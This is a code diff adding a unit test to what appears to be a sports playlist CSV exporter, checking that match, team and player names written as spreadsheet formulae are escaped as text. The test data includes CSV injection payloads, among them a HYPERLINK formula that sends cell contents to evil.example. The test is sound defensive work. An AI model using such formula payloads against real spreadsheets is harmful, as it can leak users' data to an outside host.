@@ -30,6 +30,18 @@ describe('the playlist as CSV', () => {
     );
   });
 
+  it("writes match, team and player names that are formulae as text, another club's archive's too", () => {
+    const hostile: typeof names = {
+      matchName: () => '@SUM(1+1)*cmd',
+      teamName: () => '=HYPERLINK("http://evil.example/?x="&A1,"Mariners")',
+      playerName: () => '-2+3',
+    };
+    const [, goal] = playlistCsv(clips, hostile, words).split('\r\n');
+    expect(goal).toBe(
+      `"'@SUM(1+1)*cmd","'=HYPERLINK(""http://evil.example/?x=""&A1,""Mariners"")",q2,6:25,2:05,"SHOOT, GOAL",#7 -2+3,1:57,2:08`,
+    );
+  });
+
   it('an empty playlist is the header alone', () => {
     expect(playlistCsv([], names, words)).toBe(
       '\uFEFFmatch,team,quarter,time,videoTime,event,player,clipStart,clipEnd\r\n',
